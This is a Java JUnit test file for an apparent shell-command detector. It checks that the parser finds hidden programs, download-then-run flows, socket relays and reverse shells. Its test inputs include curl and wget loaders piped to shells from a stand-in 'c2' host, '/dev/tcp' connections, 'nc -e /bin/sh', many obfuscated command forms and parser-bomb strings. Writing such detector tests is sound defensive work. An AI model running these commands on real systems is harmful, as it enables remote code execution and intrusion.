package io.hivesec.detectors.command;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import java.lang.management.ManagementFactory;
import java.util.List;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class CommandLineTest {

    private static CommandLine shell(String text) {
        return CommandLine.of(List.of("sh", "-c", text));
    }

    private static List<String> programs(CommandLine line) {
        return line.invocations().stream()
                .filter(Invocation::executed)
                .map(Invocation::name)
                .toList();
    }

    @Test
    void of_noArguments_isEmpty() {
        assertThat(CommandLine.of(List.of())).isSameAs(CommandLine.EMPTY);
    }

    @Test
    void of_wrappers_namesTheProgramInside() {
        CommandLine line = CommandLine.of(List.of(
                "sudo",
                "-u",
                "app",
                "env",
                "A=1",
                "timeout",
                "-k",
                "5",
                "60",
                "nice",
                "-n",
                "5",
                "curl",
                "-s",
                "http://x/"));
        Invocation curl = line.invocations().get(line.invocations().size() - 1);
        assertThat(curl.name()).isEqualTo("curl");
        assertThat(curl.wrappers()).containsExactly("sudo", "env", "timeout", "nice");
        assertThat(curl.arguments()).containsExactly("-s", "http://x/");
        assertThat(line.settings()).containsExactly(new Setting("A", "1", false, true));
    }

    @Test
    void of_loginShellName_isTheShell() {
        assertThat(programs(CommandLine.of(List.of("-bash", "-c", "id")))).containsExactly("bash", "id");
    }

    @Test
    void of_disguisedName_takesTheExecutable() {
        assertThat(programs(CommandLine.of(List.of("[kworker/0:1]", "-c", "id"), "/usr/bin/bash")))
                .containsExactly("bash", "id");
    }

    @Test
    void of_applet_keepsTheCalledName() {
        assertThat(programs(CommandLine.of(List.of("nc", "-l", "80"), "/bin/busybox")))
                .containsExactly("nc");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "w\\h\\o'a'm\"i\"",
                "who$@ami",
                "x=who; ${x}ami",
                "${Z:-whoami}",
                "$'\\x77hoami'",
                "{whoami,-a}",
                "echo whoami | sh",
                "eval who''ami",
                "$(echo whoami)",
                "`echo whoami`",
                "f(){ whoami; }; f",
                "if false; then :; else whoami; fi",
                "for c in whoami id; do $c; done",
                "case a in a) whoami;; esac",
                "while :; do whoami; break; done",
                "(cd /; whoami)",
                "{ whoami; }",
                "true && ! whoami",
                "find / -exec whoami {} \\;",
                "echo -a | xargs whoami",
                "trap whoami EXIT",
                "echo d2hvYW1p | base64 -d | sh",
                "echo ORXW6=== >/dev/null; whoami",
                "bash <<< whoami",
                "bash <<X\nwhoami\nX",
                ". <(echo whoami)",
                "echo imaohw | rev | sh",
                "printf '\\167hoami' | sh",
                "xxd -r -p <<< 77686f616d69 | sh",
                "X=whoamix; ${X%x}",
                "a=(id whoami); ${a[1]}",
                "set -- whoami; $1",
                "busybox sh -c whoami",
                "nohup setsid whoami &",
                "script -qc whoami /dev/null",
                "python3 -c 'import os; os.system(\"sudo whoami\")'",
                "echo whoami > /tmp/x; sh /tmp/x",
                "read c <<< whoami; $c",
                "printf -v c whoami; $c",
                "/usr/bin/whoam[i]",
                "echo \"unbalanced; nc -l 80; whoami",
            })
    void of_whoamiInAnyDress_isRead(String text) {
        assertThat(shell(text).invocations()).as(text).anyMatch(i -> i.name().startsWith("whoam"));
    }

    @Test
    void of_redirections_followDescriptors() {
        CommandLine line = shell("exec 5<>/dev/tcp/h.example/99; cat <&5 > /tmp/got");
        assertThat(line.connections())
                .containsExactly(new Connection(Connection.Direction.CONNECT, "tcp", "h.example", 99, "/dev/tcp"));
        assertThat(line.flows()).isEmpty();
    }

    @Test
    void of_writtenText_isKept() {
        assertThat(shell("echo 'a b' >> ~/.profile").files())
                .containsExactly(new FileAccess("~/.profile", FileAccess.Mode.APPEND, "echo", "a b\n", true));
    }

    @Test
    void of_workingDirectory_resolvesPaths() {
        assertThat(shell("cd /etc/cron.d && echo x > job").files())
                .extracting(FileAccess::path)
                .containsExactly("/etc/cron.d/job");
    }

    @Test
    void of_downloadThenRun_flowsAcrossFiles() {
        for (String text : List.of(
                "curl -s http://c2/a | bash",
                "wget -qO- http://c2/a | sh",
                "wget http://c2/a; chmod +x a; ./a",
                "curl -o /tmp/.a http://c2/a && sh /tmp/.a",
                "bash -c \"$(curl -fsSL http://c2/a)\"",
                "source <(wget -qO - http://c2/a)",
                "x=$(curl http://c2/a); eval \"$x\"",
                "cd /tmp; curl -O http://c2/bins.sh; chmod 777 *; ./bins.sh",
                "wget http://c2/x.py -O /tmp/x.py; python3 /tmp/x.py",
                "curl http://c2/p | python3 -",
                "curl http://c2/a | base64 -d | gunzip | sh",
                "curl -s http://c2/a | tee /tmp/b | sh",
                "tftp -g -r b -l /tmp/b c2; sh /tmp/b",
                "curl http://c2/a > a; cp a /usr/bin/b; b",
                "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://c2/a\").read())'",
                "perl -e 'use LWP::Simple; eval get(\"http://c2/a\"); getstore(1,2)'",
                "while :; do sh -c \"$(curl -s http://c2/task)\"; sleep 5; done")) {
            assertThat(shell(text).has(Flow.Kind.DOWNLOAD_TO_INTERPRETER))
                    .as(text)
                    .isTrue();
        }
    }

    @Test
    void of_downloadNotRun_isNoFlow() {
        for (String text : List.of(
                "curl -s http://x/a | jq .",
                "wget http://x/a.tgz && tar xzf a.tgz",
                "curl -o a.sh http://x/a.sh; sh b.sh",
                "curl http://x/a; sh -c id",
                "curl -fsS http://localhost/health || exit 1")) {
            assertThat(shell(text).flows()).as(text).isEmpty();
        }
    }

    @Test
    void of_relayBetweenTwoSockets_isFound() {
        assertThat(shell("mknod p p; nc -l -p 80 < p | nc 10.0.0.2 81 > p").has(Flow.Kind.SOCKET_TO_SOCKET))
                .isTrue();
        assertThat(shell("nc -l -p 80 | nc 10.0.0.2 81").has(Flow.Kind.SOCKET_TO_SOCKET))
                .isFalse();
    }

    @Test
    void of_encodedText_isInLayers() {
        assertThat(shell("echo aGVsbG8gd29ybGQ= | base64 -d").layers())
                .containsExactly(new Layer("base64", "hello world"));
    }

    @Test
    void of_code_tellsCapabilities() {
        CommandLine line =
                CommandLine.of(List.of("zork", "-x", "let s = net.dial(\"10.0.0.9:9\"); os.spawn(\"/bin/sh\", s)"));
        assertThat(line.codes()).anyMatch(Code::isShellOnSocket);
    }

    @Test
    void of_quotedCommand_isMarkedAsNotExecuted() {
        CommandLine line = CommandLine.of(List.of("git", "commit", "-m", "stop nc -e /bin/sh 10.0.0.9 9 from working"));
        assertThat(line.flows()).allMatch(flow -> !flow.executed());
    }

    @Tag("long")
    @Test
    @Timeout(180)
    void of_hostileText_isBoundedAndNoted() {
        String[] bombs = {
            "(".repeat(200_000),
            "$(".repeat(200_000),
            "`".repeat(200_001),
            "{a,b}".repeat(200_000),
            "\"$(".repeat(100_000),
            "a=$a$a;".repeat(50_000),
            "eval ".repeat(100_000) + "id",
            "sh -c ".repeat(50_000) + "id",
            "x(){ x; x; }; x",
            "<<A ".repeat(100_000),
            "case ".repeat(100_000),
            "if ".repeat(100_000),
            "${x//a/".repeat(50_000),
            "echo a | ".repeat(50_000) + "sh",
            "nc -e sh h 9;\"".repeat(20_000),
            "a;".repeat(400_000),
            "{1..9999999}" + "{a,b,c,d,e,f,g,h}".repeat(30),
            "python3 -c '" + "f(".repeat(300_000) + "'",
            "echo " + "YWFh".repeat(200_000) + " | base64 -d | base64 -d | sh",
        };
        for (String bomb : bombs) {
            Assertions.assertThatCode(() -> shell(bomb))
                    .as(bomb.substring(0, 5))
                    .doesNotThrowAnyException();
        }
    }

    @Test
    void of_longerThanTheLimit_saysSo() {
        assertThat(shell("#" + "x".repeat(CommandLine.LONGEST)).notes()).isNotEmpty();
    }

    @Test
    void of_nestedDeeperThanTheLimit_saysSo() {
        String text = "id";
        for (int i = 0; i < 8; i++) text = "sh -c '" + text.replace("'", "'\\''") + "'";
        assertThat(programs(shell(text))).contains("id");
        assertThat(shell(text).notes()).isEmpty();
        assertThat(shell("x='sh -c \"$x\"'; export x; sh -c \"$x\"").notes())
                .anyMatch(note -> note.contains("nested deeper"));
    }

    /** What is copied again for every command of a line shows in what reading the line allocates. */
    @Test
    void of_growingText_allocatesInProportion() {
        String unit = "echo \"a $x b\" | grep -v 'c;d' > /tmp/f && ls -la /var/tmp; ";
        long small = allocated(unit.repeat(60));
        long large = allocated(unit.repeat(600));
        assertThat(shell(unit.repeat(600)).notes()).isEmpty();
        assertThat(large).isLessThan(15 * small);
    }

    private static long allocated(String text) {
        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        shell(text);
        long before = threads.getCurrentThreadAllocatedBytes();
        shell(text);
        return threads.getCurrentThreadAllocatedBytes() - before;
    }
}
